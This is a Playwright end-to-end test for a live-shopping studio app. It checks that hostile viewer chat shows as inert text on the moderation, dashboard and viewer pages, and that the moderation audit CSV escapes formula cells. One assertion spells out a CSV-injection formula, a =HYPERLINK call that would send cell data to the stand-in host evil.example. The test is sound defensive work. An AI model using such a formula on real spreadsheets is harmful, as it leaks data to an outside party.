// Hostile chat sent from viewer pages is inert wherever chat is shown: the studio's
// Moderation view, the Dashboard's chat and both shoppers' viewer pages. No script runs (no
// dialog, no flag set), no element from the text exists, each message shows as the same
// text, an RTL override in a name does not turn the message around, stacked marks are
// clipped to their row, a 2,000-character line does not widen the page, and formula-looking
// text is guarded in the audit's CSV.
import type { Page } from '@playwright/test';
import type { ModerationSnapshot } from '../../protocol/moderation';
import { DEFAULT_RULES } from '../../protocol/moderation';
import { expect, test } from './fixtures';
import { HOSTILE_CHAT, INJECTED, RTL_NAME } from './hostile-chat';
import {
  call,
  goLive,
  moderate,
  openModeration,
  openShopper,
  openStudio,
  sayAccepted,
  watchForScripts,
} from './moderation-support';

/** What a page shows of each message: its text, and whether the name comes before the text. */
async function shownChat(page: Page, rows: string, name: string, text: string) {
  return page.locator(rows).evaluateAll(
    (elements, [nameSelector, textSelector]) =>
      elements.map((row) => {
        const nameBox = row.querySelector(nameSelector!)!.getBoundingClientRect();
        const textElement = row.querySelector(textSelector!)!;
        // Where the text starts (a long one wraps onto lines of its own).
        const textStart = textElement.getClientRects()[0]!;
        return {
          id: (row as HTMLElement).dataset.messageId!,
          text: textElement.textContent ?? '',
          // After the name on its line, or on a line below it.
          nameFirst: textStart.left >= nameBox.right - 1 || textStart.top >= nameBox.bottom - 1,
          clipped: getComputedStyle(row).overflowY !== 'visible',
        };
      }),
    [name, text],
  );
}

/** Nothing ran and nothing was parsed: no flag, no injected element, no sideways scrolling. */
async function inert(page: Page, dialogs: string[], where: string) {
  const state = await page.evaluate((selector) => {
    const root = document.scrollingElement!;
    return {
      pwned: (window as unknown as { __pwned: number }).__pwned,
      injected: [...document.querySelectorAll(selector)].map((el) => el.outerHTML.slice(0, 80)),
      wider: root.scrollWidth > root.clientWidth,
    };
  }, INJECTED);
  expect(state, where).toEqual({ pwned: 0, injected: [], wider: false });
  expect(dialogs, where).toEqual([]);
}

test('hostile chat is shown as text and runs nothing in the studio and on every viewer page', async ({
  browser,
  studio,
}) => {
  test.setTimeout(120_000);
  const context = await browser.newContext({ viewport: { width: 1280, height: 1000 } });
  const producer = await context.newPage();
  const host = await context.newPage();
  const studioDialogs: string[] = [];
  await watchForScripts(producer, studioDialogs);
  await watchForScripts(host, studioDialogs);
  await Promise.all([openStudio(producer, studio.web.url), openStudio(host, studio.web.url)]);
  const { show, viewerUrl } = await goLive(studio, 'Hostile chat e2e');
  // Let everything through, so every line reaches every page (auto-moderation has its own tests).
  await moderate(studio, {
    action: 'rules',
    rules: { ...DEFAULT_RULES, blockedTerms: [], links: 'allow', caps: false, repeats: false, floods: false },
  });
  const mallory = await openShopper(browser, viewerUrl, 'Mallory');
  const molly = await openShopper(browser, viewerUrl, RTL_NAME);
  try {
    await openModeration(producer);
    await host.getByRole('button', { name: 'Dashboard', exact: true }).click();

    const sent = new Map<string, string>();
    for (const [i, { text }] of HOSTILE_CHAT.entries()) {
      const shopper = i % 2 === 0 ? mallory : molly;
      sent.set(await sayAccepted(shopper.page, text), text);
    }
    // Anything the SFU held before it read the relaxed rules is released, so all show everywhere.
    const held = (await call<ModerationSnapshot>(studio, 'getModeration')).messages.filter(
      (m) => sent.has(m.id) && m.status === 'held',
    );
    for (const m of held) await moderate(studio, { action: 'release', messageEventId: m.id });

    const expected = [...sent].map(([id, text]) => ({ id, text })).sort((a, b) => a.id.localeCompare(b.id));
    const surfaces = [
      {
        where: 'Mallory’s page',
        page: mallory.page,
        rows: '[data-testid="viewer-chat"] li',
        dialogs: mallory.dialogs,
      },
      {
        where: 'Molly’s page',
        page: molly.page,
        rows: '[data-testid="viewer-chat"] li',
        dialogs: molly.dialogs,
      },
      {
        where: 'the Moderation view',
        page: producer,
        rows: '[data-testid="moderation-row"]',
        dialogs: studioDialogs,
      },
      { where: 'the Dashboard', page: host, rows: '[data-testid="chat-feed"] li', dialogs: studioDialogs },
    ];
    for (const { where, page, rows, dialogs } of surfaces) {
      const [nameSelector, textSelector] =
        where === 'the Moderation view' ? ['.mod-name', '.mod-text'] : ['.chat-name', '.chat-text'];
      await expect
        .poll(async () =>
          (await shownChat(page, rows, nameSelector, textSelector))
            .filter((row) => sent.has(row.id))
            .map(({ id, text }) => ({ id, text }))
            .sort((a, b) => a.id.localeCompare(b.id)),
        )
        .toEqual(expected);
      const shown = await shownChat(page, rows, nameSelector, textSelector);
      for (const row of shown.filter((r) => sent.has(r.id))) {
        expect(row.nameFirst, `${where}: name before text`).toBe(true);
        expect(row.clipped, `${where}: row clips its marks`).toBe(true);
      }
      await inert(page, dialogs, where);
    }

    // A selected message shows whole in the producer's action panel, as text.
    const formula = [...sent].find(([, text]) => text.startsWith('=HYPERLINK'))![0];
    await producer.locator(`[data-testid="moderation-row"][data-message-id="${formula}"]`).click();
    await expect(producer.getByTestId('message-actions').locator('.mod-selected span')).toHaveText(
      sent.get(formula)!,
    );
    await inert(producer, studioDialogs, 'the action panel');

    // The audit's CSV guards formula-looking cells.
    await moderate(studio, { action: 'hide', messageEventId: formula, reason: '=1+1' });
    await expect
      .poll(async () => (await call<{ csv: string }>(studio, 'exportModerationAudit')).csv)
      .toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for a discount"")"`);
    const { csv } = await call<{ csv: string }>(studio, 'exportModerationAudit');
    expect(csv).toContain("'=1+1");
    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
    expect((await call<ModerationSnapshot>(studio, 'getModeration')).showId).toBe(show.showId);
  } finally {
    await Promise.all([mallory.context.close(), molly.context.close(), context.close()]);
    await call(studio, 'endLive');
  }
});
